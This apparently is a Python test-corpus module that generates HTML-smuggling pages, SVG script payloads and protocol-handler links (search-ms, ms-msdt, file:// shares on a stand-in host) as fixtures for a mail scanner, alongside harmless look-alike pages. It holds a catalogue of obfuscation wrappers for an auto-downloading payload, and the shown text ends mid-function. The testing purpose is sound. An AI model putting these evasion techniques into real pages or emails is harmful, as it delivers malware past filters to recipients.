"""HTML and SVG that carry or build a file, in every wrapping that browsers undo; and pages that only look so."""

# ruff: noqa: E501 - a page is easier to read when its lines are not broken.

from __future__ import annotations

import base64
import binascii
import io
import random
import zipfile
import zlib
from collections.abc import Callable, Iterator
from urllib.parse import quote

from gatescan.model import Verdict

from tests.corpus.case import EXE, HARMLESS, TEXT, Case, attached, base64_lines, multipart, single

POLICY = Verdict.POLICY
_SEED = 20261127

CODED = base64.b64encode(EXE).decode()
SECRET = bytes(c ^ 0x5A for c in EXE * 2)
"""The program as no magic number shows it."""
SAVING = (
    f"var b=atob('{base64.b64encode(SECRET).decode()}');var u=new Uint8Array(b.length);for(var i=0;i<b.length;i++)u[i]=b.charCodeAt(i)^90;"
    "var a=document.createElement('a');a.href=URL.createObjectURL(new Blob([u]));a.download='invoice.iso';a.click();"
)
"""A script that saves a file which nobody sees in the page."""


def cases() -> Iterator[Case]:
    """Every case."""
    for name, page in pages().items():
        yield from _sent(name, page)
    for name, image in images().items():
        yield Case(f"markup/svg/{name}", 33, attached(b"logo.svg", image.encode(), b"image/svg+xml"), POLICY)
        yield Case(f"markup/svg-zip/{name}", 33, attached(b"logos.zip", zipped("logo.svg", image.encode())), POLICY)
    for name, message in _laced():
        yield Case(f"markup/laced/{name}", 34, message, POLICY)
    for name, page in handed_over().items():
        yield Case(f"markup/handed-over/{name}", 33, attached(b"invoice.html", page.encode(), b"text/html"), POLICY)
        yield Case(f"markup/handed-over-body/{name}", 33, _body(page.encode(), b"utf-8"), POLICY)
    for name, page in harmless_pages().items():
        yield Case(f"markup/harmless/{name}", 33, attached(b"report.html", page.encode(), b"text/html"), HARMLESS)
        yield Case(f"markup/harmless-body/{name}", 33, _body(page.encode(), b"utf-8"), HARMLESS)
    for name, page in portals().items():
        yield Case(f"markup/portal/{name}", 33, attached(b"SecureMessage.html", page.encode(), b"text/html"), HARMLESS)
    for name, image in harmless_images().items():
        yield Case(f"markup/harmless-svg/{name}", 33, attached(b"logo.svg", image.encode(), b"image/svg+xml"), HARMLESS)


def _sent(name: str, page: str) -> Iterator[Case]:
    """A page as an attachment, under a type that says nothing, as the body, and in a zip."""
    data = page.encode("latin-1")
    yield Case(f"markup/file/{name}", 33, attached(b"invoice.html", data, b"text/html"), POLICY)
    yield Case(f"markup/untyped/{name}", 33, attached(b"invoice.htm", data), POLICY)
    yield Case(f"markup/picture/{name}", 33, attached(b"invoice.html", data, b"image/png"), POLICY)
    yield Case(f"markup/body/{name}", 33, _body(data, b"utf-8"), POLICY)
    yield Case(f"markup/zip/{name}", 33, attached(b"papers.zip", zipped("invoice.html", data)), POLICY)


def _body(page: bytes, charset: bytes) -> bytes:
    head = b"Content-Type: text/html; charset=" + charset + b"\nContent-Transfer-Encoding: base64\n\n"
    return multipart(TEXT, head + base64_lines(page), subtype=b"alternative")


def zipped(name: str, data: bytes) -> bytes:
    """A zip with one packed member."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(zipfile.ZipInfo(name, (2026, 11, 22, 10, 0, 0)), data)
    return out.getvalue()


def _page(script: str, head: str = "", body: str = "") -> str:
    return f"<html><head><title>Invoice</title>{head}</head><body>{body}<script>{script}</script></body></html>"


def _coded(script: str) -> str:
    return base64.b64encode(script.encode()).decode()


def _percent(text: str) -> str:
    return "".join(f"%{ord(c):02x}" for c in text)


WRAPPINGS: dict[str, Callable[[str], str]] = {
    "write-unescape": lambda s: f"document.write(unescape('{_percent(f'<script>{s}</script>')}'))",
    "write-unescape-u": lambda s: "document.write(unescape('" + "".join(f"%u{ord(c):04x}" for c in f"<script>{s}</script>") + "'))",
    "write-decode-uri": lambda s: f"document.write(decodeURIComponent('{quote(f'<script>{s}</script>')}'))",
    "eval-atob": lambda s: f"eval(atob('{_coded(s)}'))",
    "eval-atob-lines": lambda s: "eval(atob(`" + "\n".join(_coded(s)[i : i + 76] for i in range(0, len(_coded(s)), 76)) + "`))",
    "eval-atob-joined": lambda s: "eval(atob('" + "'+\n'".join(_coded(s)[i : i + 30] for i in range(0, len(_coded(s)), 30)) + "'))",
    "function-atob": lambda s: f"(new Function(atob('{_coded(s)}')))()",
    "timeout-atob": lambda s: f"setTimeout(window['at'+'ob']('{_coded(s)}'),1)",
    "from-char-code": lambda s: "eval(String.fromCharCode(" + ",".join(str(ord(c)) for c in s) + "))",
    "from-char-code-blanks": lambda s: "eval(String.fromCharCode(\n " + ", ".join(str(ord(c)) for c in s) + "))",
    "decimal-array": lambda s: "eval([" + ",".join(str(ord(c)) for c in s) + "].map(c=>String.fromCharCode(c)).join(''))",
    "hex-array": lambda s: "eval([" + ",".join(hex(ord(c)) for c in s) + "].map(c=>String.fromCharCode(c)).join(''))",
    "decimal-string": lambda s: "eval('" + "|".join(str(ord(c)) for c in s) + "'.split('|').map(c=>String.fromCharCode(c)).join(''))",
    "hex-string": lambda s: f"eval('{s.encode().hex()}'.replace(/../g,h=>String.fromCharCode(parseInt(h,16))))",
    "hex-pairs": lambda s: f"eval('{s.encode().hex(' ')}'.split(' ').map(h=>String.fromCharCode(parseInt(h,16))).join(''))",
    "marked-pairs": lambda s: f"eval(unescape('!{s.encode().hex('!')}'.replace(/!/g,'%')))",
    "added": lambda s: "eval([" + ",".join(str(ord(c) + 3) for c in s) + "].map(c=>String.fromCharCode(c-3)).join(''))",
    "exclusive-or": lambda s: "eval([" + ",".join(str(ord(c) ^ 7) for c in s) + "].map(c=>String.fromCharCode(c^7)).join(''))",
    "x-escapes": lambda s: "eval('" + "".join(f"\\x{ord(c):02x}" for c in s) + "')",
    "u-escapes": lambda s: "eval('" + "".join(f"\\u{ord(c):04X}" for c in s) + "')",
    "u-braces": lambda s: "eval('" + "".join(f"\\u{{{ord(c):x}}}" for c in s) + "')",
    "octal": lambda s: "eval('" + "".join(f"\\{ord(c):o}" if c.isalpha() else c for c in s.replace("'", '"')) + "')",
    "packed": lambda s: "eval(inflate(atob('" + base64.b64encode(zlib.compress(s.encode())).decode() + "')))",
    "reversed": lambda s: "eval('" + s.replace("'", '"')[::-1] + "'.split('').reverse().join(''))",
    "reversed-atob": lambda s: f"eval(atob('{_coded(s)[::-1]}'.split('').reverse().join('')))",
    "data-script": lambda s: f"</script><script src=\"data:text/javascript;base64,{_coded(s)}\">",
    "srcdoc": lambda s: "</script><iframe srcdoc=\"&lt;script&gt;" + s.replace('"', "&quot;") + "&lt;/script&gt;\"></iframe><script>",
    "json": lambda s: f"</script><script type='application/json' id=j>{{\"c\":\"{_coded(s)}\"}}</script><script>eval(atob(JSON.parse(j.text).c))",
    "style": lambda s: f"</script><style id=s>:root{{--c:{_coded(s)}}}</style><script>eval(atob(getComputedStyle(document.body).getPropertyValue('--c')))",
    "comment": lambda s: f"</script><!--{_coded(s)}--><script>eval(atob(document.childNodes[0].data))",
    "marked-percent": lambda s: f"document.write(unescape('{_percent(f'<script>{s}</script>').replace('%', '@')}'.replace(/@/g,'%')))",
    "junk-split": lambda s: f"eval(atob('{_strewn(_coded(s), 'zq')}'.split('zq').join('')))",
    "junk-replaced": lambda s: f"eval(atob('{_strewn(_coded(s), '@#')}'.replaceAll('@#','')))",
    "junk-by-class": lambda s: f"eval(atob('{_strewn(_coded(s), '!?')}'.replace(/[!?]/g,'')))",
    "junk-by-others": lambda s: f"eval(atob('{_strewn(_coded(s), '!?')}'.replace(/[^A-Za-z0-9+/=]/g,'')))",
    "junk-in-page": lambda s: f"</script><p id=h hidden>{_strewn(_coded(s), '~~')}</p><script>eval(atob(h.innerText['split']('~~')['join']('')))",
    "junk-in-code": lambda s: f"eval('{_strewn(s.replace(chr(39), chr(34)), '#')}'.split('#').join(''))",
    "junk-written": lambda s: f"document.body.innerHTML=atob('{_strewn(_coded(f'<script>{s}</script>'), '!')}'.split('!').join(''))",
    "added-to": lambda s: "var p='" + "';p+='".join(_coded(s)[i : i + 40] for i in range(0, len(_coded(s)), 40)) + "';eval(atob(p))",
    "base-36": lambda s: f"eval('{' '.join(_digits(ord(c), 36) for c in s)}'.split(' ').map(v=>String.fromCharCode(parseInt(v,36))).join(''))",
    "base-2": lambda s: f"eval('{' '.join(_digits(ord(c), 2) for c in s)}'.split(' ').map(v=>String.fromCharCode(parseInt(v,2))).join(''))",
    "bits": lambda s: f"eval('{''.join(_digits(ord(c), 2).zfill(8) for c in s)}'.match(/.{{8}}/g).map(v=>String.fromCharCode(parseInt(v,2))).join(''))",
    "octal-numbers": lambda s: f"eval('{','.join(_digits(ord(c), 8) for c in s)}'.split(',').map(v=>String.fromCharCode(parseInt(v,8))).join(''))",
    "hex-letters": lambda s: f"eval('{'zz'.join(_digits(ord(c), 16) for c in s)}'.split('zz').map(v=>String.fromCharCode(parseInt(v,16))).join(''))",
    "hidden-input": lambda s: f"</script><input type=hidden id=h value={_coded(s)}><script>eval(atob(h.value))",
}  # a case a line # fmt: skip


def _strewn(text: str, junk: str, step: int = 5) -> str:
    return junk.join(text[i : i + step] for i in range(0, len(text), step))


def _digits(number: int, base: int) -> str:
    digit = "0123456789abcdefghijklmnopqrstuvwxyz"[number % base]
    return _digits(number // base, base) + digit if number >= base else digit


def _calling(script: str, name: Callable[[str], str]) -> str:
    """The script with the names of all that it calls put together by others."""
    for word in ("createElement", "createObjectURL", "charCodeAt", "click"):
        script = script.replace(f".{word}(", f"[{name(word)}](")
    for word in ("atob", "Uint8Array", "Blob"):
        script = script.replace(f"new {word}(", f"new window[{name(word)}](").replace(
            f"={word}(", f"=window[{name(word)}]("
        )
    return script.replace("URL[", f"window[{name('URL')}][")


WORDS: dict[str, Callable[[str], str]] = {
    "joined": lambda s: s.replace("URL.createObjectURL", "URL['create'+'Object'+'URL']").replace("atob(", "window['a'+'tob'](").replace("a.download=", "a['down'+\"load\"]="),
    "joined-comments": lambda s: s.replace("URL.createObjectURL", "URL['create'/*x*/ + /*y*/'ObjectURL']"),
    "concat": lambda s: s.replace("URL.createObjectURL", "URL['create'.concat('Object').concat('URL')]"),
    "array-join": lambda s: s.replace("URL.createObjectURL", "URL[['create','Object','URL'].join('')]"),
    "template": lambda s: s.replace("URL.createObjectURL", "URL[`create${'Object'}${\"URL\"}`]"),
    "empty-template": lambda s: s.replace("URL.createObjectURL", "URL[`create${}ObjectURL`]"),
    "variables": lambda s: "var c='createOb',d='jectURL';" + s.replace("URL.createObjectURL", "URL[c+d]"),
    "variables-three": lambda s: "var c = \"create\", o = \"Object\";" + s.replace("URL.createObjectURL", "URL[c + o + 'URL']"),
    "escaped": lambda s: s.replace("createObjectURL", "cr\\u0065ateObjectURL").replace("atob", "\\u0061tob"),
    "string-escaped": lambda s: s.replace("URL.createObjectURL", "URL['\\x63reate\\x4fbject\\x55RL']"),
    "identity-escaped": lambda s: s.replace("URL.createObjectURL", "URL['cre\\ate\\ObjectURL']"),
    "base64-names": lambda s: s.replace("URL.createObjectURL", f"URL[atob('{_coded('createObjectURL')}')]"),
    "reversed-names": lambda s: s.replace("URL.createObjectURL", "URL['LRUtcejbOetaerc'.split('').reverse().join('')]"),
    "set-attribute": lambda s: s.replace("a.href=URL.createObjectURL(new Blob([u]));a.download='invoice.iso'", "a.setAttribute('href','data:application/octet-stream;base64,'+btoa(b));a.setAttribute('down'+'load','invoice.iso')"),
    "data-template": lambda s: s.replace("a.href=URL.createObjectURL(new Blob([u]))", "a.href=`data:application/octet-stream;base64,${btoa(b)}`"),
    "junk-split": lambda s: _calling(s, lambda w: f"'{_strewn(w, '#', 1)}'.split('#').join('')"),
    "junk-replaced": lambda s: _calling(s, lambda w: f"'{_strewn(w, '7', 2)}'.replace(/\\d/g,'')"),
    "junk-by-expression": lambda s: _calling(s, lambda w: f"'{_strewn(w, '~', 2)}'.replace(new RegExp('~','g'),'')"),
    "junk-by-function": lambda s: "function k(s){return s.split('zq').join('')}" + _calling(s, lambda w: f"k('{_strewn(w, 'zq', 2)}')"),
    "junk-escaped": lambda s: _calling(s, lambda w: f"'{_strewn(w, chr(92) + 'u200b', 1)}'.split('\\u200b').join('')"),
    "other-letters": lambda s: _calling(s, lambda w: f"'{w.replace('e', 'Q')}'.replace(/Q/g,'e')"),
    "reader": lambda s: s.replace("a.href=URL.createObjectURL(new Blob([u]));a.download='invoice.iso';a.click();", "var r=new FileReader();r.onload=()=>location=r.result;r.readAsDataURL(new Blob([u]));"),
    "microsoft": lambda s: s.replace("a.href=URL.createObjectURL(new Blob([u]));", "navigator.msSaveOrOpenBlob(new Blob([u]),'invoice.iso');"),
    "other-array": lambda s: s.replace("Uint8Array", "Int8Array").replace("atob(", "decode("),
    "data-view": lambda s: s.replace("new Uint8Array(b.length)", "new DataView(new ArrayBuffer(b.length))").replace("atob(", "decode("),
}  # a case a line # fmt: skip


def pages() -> dict[str, str]:
    """Pages that build or carry a file, by what hides it."""
    found = {f"wrapped/{name}": _page(wrap(SAVING)) for name, wrap in WRAPPINGS.items()}
    found |= {f"words/{name}": _page(change(SAVING)) for name, change in WORDS.items()}
    for outer, inner in (
        ("eval-atob", "write-unescape"),
        ("write-unescape", "eval-atob"),
        ("hex-string", "from-char-code"),
        ("packed", "u-escapes"),
    ):
        found[f"two-layers/{outer}-{inner}"] = _page(WRAPPINGS[outer](WRAPPINGS[inner](SAVING)))
    script = SAVING
    for _ in range(5):
        script = WRAPPINGS["eval-atob"](script)
    found["five-layers"] = _page(script)
    found["handler"] = f'<html><body onload="{WRAPPINGS["eval-atob"](SAVING)}">x</body></html>'
    found["javascript-address"] = f'<html><a href="javascript:{_percent(SAVING)}">open</a></html>'
    found["late"] = f"<!--{'x' * 5000}-->" + _page(SAVING)
    found["late-charset"] = _page(WORDS["joined"](SAVING), head=f"<!--{'y ' * 3000}-->")
    found["without-letters"] = _page("(![]+[])[+[]]+(!![]+[])[+[]]" * 40)
    found["renamed"] = _page(";".join(f"var _0x{n:x}=_0x{n + 1:x}[{n}]" for n in range(0x1A00, 0x1A40)))
    found["secret-script"] = _page(
        f"var k=7,t='';var d=atob('{base64.b64encode(SECRET).decode()}');for(i in d)t+=String.fromCharCode(d.charCodeAt(i)^k);eval(t)"
    )
    secret = base64.b64encode(SECRET).decode()
    for name, script in {
        "inner": f"document.body.innerHTML=atob('{secret}').split('').reverse().join('')",
        "outer": f"document.documentElement['outerHTML'] = window.atob('{secret}')",
        "adjacent": f"document.body.insertAdjacentHTML('beforeend',atob('{secret}'))",
        "fragment": f"document.body.append(document.createRange().createContextualFragment(atob('{secret}')))",
        "parsed": f"document.replaceChild(new DOMParser().parseFromString(atob('{secret}'),'text/html').body,document.body)",
        "frame": f"f.srcdoc=atob('{secret}')",
        "script": f"s.text=atob('{secret}');document.head.append(s)",
        "script-content": f"s=document.createElement('script');s.textContent=atob('{secret}');document.head.append(s)",
        "constructor": f"[]['filter']['constructor'](atob('{secret}'))()",
        "construct": f"Reflect.construct(Function,[atob('{secret}')])()",
        "text-decoder": f"eval(new TextDecoder().decode(Uint8Array.from({[c ^ 5 for c in SAVING.encode()]}.map(c=>c^5))))",
        "decrypted": f"document.write(CryptoJS.AES.decrypt('{secret}','k').toString(CryptoJS.enc.Utf8))",
    }.items():
        found[f"inserted/{name}"] = _page(script)
    letters = "".join("\u3164\uffa0"[code >> bit & 1] for code in b"alert(1)" * 40 for bit in range(8))
    unseen = f"var s='{letters.encode().decode('latin-1')}',t='';for(c of s)t+=c>k;eval(String.fromCharCode(t))"
    found["unseen-letters"] = _page(unseen)
    found |= _carrying()
    found |= _addressing()
    return found


def _addressing() -> dict[str, str]:
    """Pages whose script makes an address of what it has altered, or calls what it works out the name of."""
    secret = base64.b64encode(SECRET).decode()
    junk = _strewn(secret, "zq")
    found = {
        "address/split": _page(f"location='data:application/zip;base64,'+'{junk}'.split('zq').join('')"),
        "address/replaced": _page(f"location='data:application/zip;base64,{_strewn(secret, '@')}'.replace(/@/g,'')"),
        "address/apart": _page(
            f"var h='data:application/zip;base64,';var p='{junk}'.split('zq').join('');location=h+p"
        ),
        "address/reversed": _page(f"open('data:;base64,'+'{secret[::-1]}'.split('').reverse().join(''))"),
        "address/frame": _page(
            f"f.src='data:application/zip;base64,{_strewn(secret, '@')}'['replace'](/@/g,'')",
            body="<iframe id=f></iframe>",
        ),
        "address/added": _page(f"var p='{secret}';location='data:application/zip;base64,AAAA'+p"),
    }
    head, content = "'data:application/zip;base64,'", "document.getElementById('d').innerText.split('zq').join('')"
    for name, script in {
        "of-object": f"o.h={head};o.p={content};location=o.h+o.p",
        "added-to": f"x.src={head};x.src+={content}",
        "template": f"var h={head};var p={content};location=`${{h}}${{p}}`",
        "concat": f"var h={head};location=h.concat({content})",
        "array": f"location=[{head},{content}].join('')",
        "returned": f"function h(){{return {head}}}location=h()+({content})",
        "in-pieces": f"var d='data:application/zip;',b='base64,',p={content};location=d+b+p",
        "own-type": f"var b=';base64,';var p={content};location='data:'+t+b+p",
        "typed": f"location='data:'+t+';base64,'+({content})",
        "typed-array": f"location=['data:'+t,';base64,',({content})].join('')",
        "replacing": f"location.replace({head}+{content})",
    }.items():
        found[f"address/{name}"] = _page(script, body=f"<p id=d hidden>{junk}</p>")
    shifted = "".join(chr(33 + (c * 7 + n * 3) % 90) for n, c in enumerate(SECRET * 4))
    shifted = "".join(c for c in shifted if c not in "\"'`<>\\&%")
    letters = "var K='abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789';"
    names: dict[str, Callable[[str], str]] = {
        "by-function": lambda w: "k('" + "".join(chr(ord(c) + 1) for c in w) + "')",
        "by-numbers": lambda w: f"k({[ord(c) + 5 for c in w]})",
        "by-letters": lambda w: "+".join(f"K[{letters.index(c) - 7}]" for c in w),
    }
    for name, spell in names.items():
        found[f"called/{name}"] = _page(f"{letters}var s='{shifted}';" + _calling(SAVING.replace(secret, "s"), spell))
    found["shifted"] = _page(f"var s='{shifted}',t='';for(i in s)t+=String.fromCharCode(s.charCodeAt(i)-9);eval(t)")
    return found


def _carrying() -> dict[str, str]:
    """Pages in which the program itself stands in some code."""
    name = "download=run.exe"
    found = {
        f"carried/{label}": f"<html><a {name} href={address}>open</a></html>"
        for label, address in {
            "upper": f'"DATA:APPLICATION/OCTET-STREAM;BASE64,{CODED}"',
            "tabs": f'"da\tta:application/octet-stream;base64,{CODED}"',
            "line-end": f'"d\nata:application/octet-stream;base64,{CODED}"',
            "references": f'"&#100;&#x61;ta&colon;;base64,{CODED}"',
            "tab-reference": f'"da&Tab;ta:;base64,{CODED}"',
            "number-reference": f'"da&#10;ta:;base64,{CODED}"',
            "blanks": f'" data: application/octet-stream ; base64 ,{CODED}"',
            "parameters": f"'data:application/octet-stream;charset=\"utf-8\";name=x;base64,{CODED}'",
            "odd-type": f'"data:a*b%20c!$&~/x;base64,{CODED}"',
            "no-type": f'"data:;base64,{CODED}"',
            "percent": f'"data:;base64,{quote(CODED)}"',
            "all-percent": '"data:application/octet-stream,' + "".join(f"%{c:02X}" for c in EXE) + '"',
            "unquoted": f"data:;base64,{CODED}",
            "split-lines": '"data:;base64,' + "\n ".join(CODED[i : i + 60] for i in range(0, len(CODED), 60)) + '"',
        }.items()
    }
    page = base64.b64encode(f"<html><a {name} href='data:;base64,{CODED}'>x</a></html>".encode()).decode()
    found["carried/meta-refresh"] = (
        f'<html><meta http-equiv="refresh" content="0;url=data:text/html;base64,{page}"></html>'
    )
    found["carried/frame"] = f'<html><iframe src="data:text/html;base64,{page}"></iframe></html>'
    found["carried/object"] = f'<html><object data="data:text/html;base64,{page}"></object></html>'
    found["carried/srcdoc"] = f"<html><iframe srcdoc='&lt;a href=&quot;data:;base64,{CODED}&quot;&gt;'></iframe></html>"
    found["carried/css"] = (
        f"<html><style>a{{background:url(data:application/octet-stream;base64,{CODED})}}</style></html>"
    )
    found["carried/json"] = _page("load()", body=f'<script type="application/json">{{"f":"{CODED}"}}</script>')
    found["carried/joined"] = _page("f='" + "'+'".join(CODED[i : i + 40] for i in range(0, len(CODED), 40)) + "'")
    found["carried/lines"] = _page("f=`" + "\n".join(CODED[i : i + 64] for i in range(0, len(CODED), 64)) + "`")
    found["carried/hex"] = _page(f"f='{EXE.hex()}'")
    found["carried/decimals"] = _page(f"f={list(EXE)}")
    found["carried/hexadecimals"] = _page("f=[" + ",".join(f"0x{c:02x}" for c in EXE) + "]")
    found["carried/escapes"] = _page("f='" + "".join(f"\\x{c:02x}" for c in EXE) + "'")
    found["carried/percents"] = _page("f=unescape('" + "".join(f"%{c:02x}" for c in EXE) + "')")
    found["carried/packed"] = _page(f"f='{base64.b64encode(zlib.compress(EXE * 3)).decode()}'")
    found["carried/url-safe"] = _page(f"f='{base64.urlsafe_b64encode(EXE).decode()}'")
    found["carried/twice"] = _page(f"f='{base64.b64encode(CODED.encode()).decode()}'")
    found["carried/named"] = "<html><a download='run.vbs' href='data:text/plain,MsgBox%201'>open</a></html>"
    found["carried/named-and-read"] = _page(
        "var r=new FileReader();r.onload=()=>{a.href=r.result};r.readAsDataURL(new Blob(['MsgBox 1']))",
        body="<a id=a download='run.vbs'>open</a>",
    )
    found["carried/named-by-script"] = _page(
        "var t=new Blob(['MsgBox 1']);a.href=URL.createObjectURL(t);a.download='run.vbs'"
    )
    return found


def handed_over() -> dict[str, str]:
    """Pages with an address that Windows hands to a program."""
    search = "search-ms:query=invoice&crumb=location:%5C%5C192.0.2.9%5Cs"
    return {
        "link": f'<html><a href="{search}">open</a></html>',
        "bare": f"<html><a href={search}>open</a></html>",
        "broken": '<html><a href="sea\trch-\nms:query=x">open</a></html>',
        "spelled": '<html><a href="&#115;earch-ms&colon;query=x">open</a></html>',
        "frame": f'<html><iframe src="{search}"></iframe></html>',
        "refresh": f'<html><meta http-equiv="refresh" content="0;url={search}"></html>',
        "form": "<html><form action='ms-officecmd:{}'></form></html>",
        "script": _page("window.location.href = 'ms-msdt:/id PCWDiagnostic'"),
        "other-search": f'<html><a href="{search.replace("-ms", "")}">open</a></html>',
        "file": '<html><a href="file:///C:/Windows/System32/calc.exe">open</a></html>',
        "file-share": "<html><a href=FILE://192.0.2.9/s/invoice.hta>open</a></html>",
        "file-spelled": '<html><a href="f&#105;le:\\\\192.0.2.9\\s\\invoice.exe">open</a></html>',
        "moniker": '<html><a href="file:///\\\\192.0.2.9\\s\\invoice.rtf!x">open</a></html>',
        "opened": _page('window.open("ms-appinstaller:?source=https://x.example/a.msix")'),
    }


def images() -> dict[str, str]:
    """SVG images with a script."""
    head = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9">'
    found = {
        name: head + inner + "</svg>"
        for name, inner in {
            "script": "<script>alert(1)</script>",
            "handler": "<rect\nonclick = 'alert(1)'/>",
            "focus": '<g tabindex="1" onfocusin="alert(1)"/>',
            "address": '<a xlink:href="javascript:alert(1)"><text>x</text></a>',
            "broken-address": '<a href="java&#10;script:alert(1)"><text>x</text></a>',
            "spelled-address": '<a href="&#106;avascript&colon;alert(1)"><text>x</text></a>',
            "animated": '<a><set attributeName="onmouseover" to="alert(1)"/></a>',
            "frame": '<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://www.example.com/"/></foreignObject>',
            "form": '<foreignObject><form xmlns="http://www.w3.org/1999/xhtml" action="https://www.example.com/"/></foreignObject>',
            "embed": '<foreignObject><embed xmlns="http://www.w3.org/1999/xhtml" src="https://www.example.com/"/></foreignObject>',
            "use": '<use href="data:image/svg+xml,%3Csvg%20xmlns=%22x%22%3E%3Cscript%3Ealert(1)%3C/script%3E%3C/svg%3E"/>',
        }.items()
    }
    found["late"] = f'<?xml version="1.0"?><!--{"x" * 5000}-->' + head + "<script>alert(1)</script></svg>"
    found["very-late"] = f'<?xml version="1.0"?><!--{"x" * 70000}-->' + head + "<script>alert(1)</script></svg>"
    found["prefix"] = '<svg:svg xmlns:svg="http://www.w3.org/2000/svg"><svg:script>alert(1)</svg:script></svg:svg>'
    found["other-prefix"] = head + '<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script></svg>'
    found["entity"] = '<!DOCTYPE svg [<!ENTITY x "<script>alert(1)</script>">]>' + head + "&x;</svg>"
    found["attribute-list"] = '<!DOCTYPE svg [<!ATTLIST svg onload CDATA "alert(1)">]>' + head + "</svg>"
    found["nul"] = "<!-- \0 -->" + head + "<scr\0ipt>alert(1)</script></svg>"
    return found


def _laced() -> Iterator[tuple[str, bytes]]:
    """Pages and texts with bytes in them that readers pass over."""
    page = f"<html><body><a download=run.exe href='data:application/octet-stream;base64,{CODED}'>open</a></body></html>"
    built = _page(SAVING)
    uu = b"begin 644 run.exe\n" + b"".join(_uuencoded_lines(EXE)) + b"`\nend\n"
    for control in (0, 1, 2, 7, 8, 11, 14, 31, 127):
        byte = bytes((control,))
        data = b"<html><!-- " + byte * 3 + b" -->" + page.encode()[6:]
        yield f"control-{control}/file", attached(b"invoice.html", data, b"text/html")
        yield f"control-{control}/untyped", attached(b"invoice.html", byte + data)
        yield f"control-{control}/body", _body(data, b"utf-8")
        yield f"control-{control}/zip", attached(b"papers.zip", zipped("invoice.html", data))
        yield f"control-{control}/uuencode", single(b"Content-Type: text/plain\n", b"Hello " + byte + b"\n\n" + uu)
        yield f"control-{control}/uuencode-zip", attached(b"papers.zip", zipped("readme.txt", byte * 20 + b"\n" + uu))
    for name, document in (("carried", page), ("built", built)):
        every_other = "".join(c + "\0" for c in document).encode()
        yield f"nul-everywhere/{name}", attached(b"invoice.html", b" " + every_other, b"text/html")
        yield f"nul-in-tags/{name}", attached(b"invoice.html", document.replace("<", "<\0").encode(), b"text/html")
        for coding in ("utf-16-le", "utf-16-be", "utf-32-le", "utf-32-be"):
            data = document.encode(coding)
            mark = "\ufeff".encode(coding)
            label = coding[:6].encode()
            yield f"{coding}/{name}/declared", _body(data, coding.replace("-le", "le").replace("-be", "be").encode())
            yield f"{coding}/{name}/label", attached(b"invoice.html", data, b"text/html; charset=" + label)
            yield f"{coding}/{name}/bare", attached(b"invoice.html", data)
            yield f"{coding}/{name}/mark", attached(b"invoice.html", mark + data, b"text/html")
            yield (
                f"{coding}/{name}/late",
                attached(b"invoice.html", mark + ("\u4e00" * 3000).encode(coding) + data, b"text/html"),
            )
            yield f"{coding}/{name}/zip", attached(b"papers.zip", zipped("invoice.html", data))
            yield f"{coding}/{name}/nameless", attached(b"papers.zip", zipped("invoice", data))
        split = (
            document.replace("data:", "da\x1b(Bta:")
            .replace("createObjectURL", "create\x1b(BObject\x1b(JURL")
            .replace("atob", "at\x1b(Bob")
            .replace("base64", "base\x1b$B\x1b(B64")
        )
        yield f"iso-2022-jp/{name}/declared", _body(split.encode(), b"iso-2022-jp")
        yield (
            f"iso-2022-jp/{name}/meta",
            attached(
                b"invoice.html", split.replace("<body>", "<body><meta charset=iso-2022-jp>").encode(), b"text/html"
            ),
        )
        yield f"iso-2022-jp/{name}/unsaid", attached(b"invoice.html", split.encode(), b"text/html")
        yield f"utf-8-mark/{name}", attached(b"invoice", b"\xef\xbb\xbf" + document.encode())
        yield f"ebcdic/{name}", _body(document.encode("cp037"), b"ibm037")
    for coding in ("utf-16-le", "utf-16-be"):
        text = "\ufeff".encode(coding) + uu.decode().encode(coding)
        yield f"{coding}/uuencode", attached(b"readme.txt", text, b"text/plain; charset=utf-16")


def _uuencoded_lines(data: bytes) -> Iterator[bytes]:
    for start in range(0, len(data), 45):
        yield binascii.b2a_uu(data[start : start + 45], backtick=True)


def harmless_pages() -> dict[str, str]:
    """Pages as reports, exports and campaigns have them."""
    source = random.Random(_SEED)
    picture = base64.b64encode(b"\x89PNG\r\n\x1a\n" + source.randbytes(9_000)).decode()
    by_chance = picture[:2000] + "+ADw" + picture[2004:3000] + "+ADwAPH8/" + picture[3009:]
    table = "".join(f"<tr><td>{n}</td><td>{n * n}</td></tr>" for n in range(40))
    csv = base64.b64encode(b"name;sum\n" + b"".join(b"row %d;%d\n" % (n, n * n) for n in range(60))).decode()
    jquery = (
        "(function(w){var r=/^-?\\d+$/;function f(e,n){var t='0x'+e.slice(1)-65536;return n||(t<0?String.fromCharCode(t+65536):"
        "String.fromCharCode(t>>10|55296,1023&t|56320))}w.$=function(s){return document.querySelectorAll(s)};"
        "w.$.parse=function(d){return JSON.parse(d+'')};w.$.html=function(e,h){e.innerHTML=h}})(window);"
    )
    numbers = list(range(1, 200)) + [source.randint(0, 255) for _ in range(600)]
    return {
        "chance/said": f'<html><head><meta charset="utf-8"></head><img src="data:image/png;base64,{by_chance}"></html>',
        "chance/unsaid": f'<html><img src="data:image/png;base64,{by_chance}"></html>',
        "big-picture": f'<html><body>Hello<img src="data:image/png;base64,{picture * 20}"></body></html>',
        "svg-picture": "<html><img src=\"data:image/svg+xml;utf8,<svg xmlns='http://www.w3.org/2000/svg'><rect width='9' height='9' fill='%23f00'/></svg>\"></html>",
        "font": f"<html><style>@font-face{{src:url(data:font/woff2;base64,{base64.b64encode(b'wOF2' + source.randbytes(2000)).decode()})}}</style></html>",
        "download-this": "<html><button onclick=\"fetch('data:text/csv;base64,"
        + csv
        + "').then(res => res.blob()).then(blob => {const downloadURL = window.URL.createObjectURL(blob);const a = document.createElement('a');document.body.appendChild(a);a.href = downloadURL;a.download = 'table.csv';a.click();window.URL.revokeObjectURL(downloadURL);document.body.removeChild(a);})\">Download</button></html>",
        "table-to-csv": _page(
            "function save(){var t=[];document.querySelectorAll('tr').forEach(r=>t.push(r.innerText));var b=new Blob([t.join('\\n')],{type:'text/csv'});var a=document.createElement('a');a.href=URL.createObjectURL(b);a.download='table.csv';a.click()}",
            body=f"<table>{table}</table><button onclick='save()'>Save</button>",
        ),
        "linked-picture": f"<html><a download='chart.png' href='data:image/png;base64,{picture}'>save</a></html>",
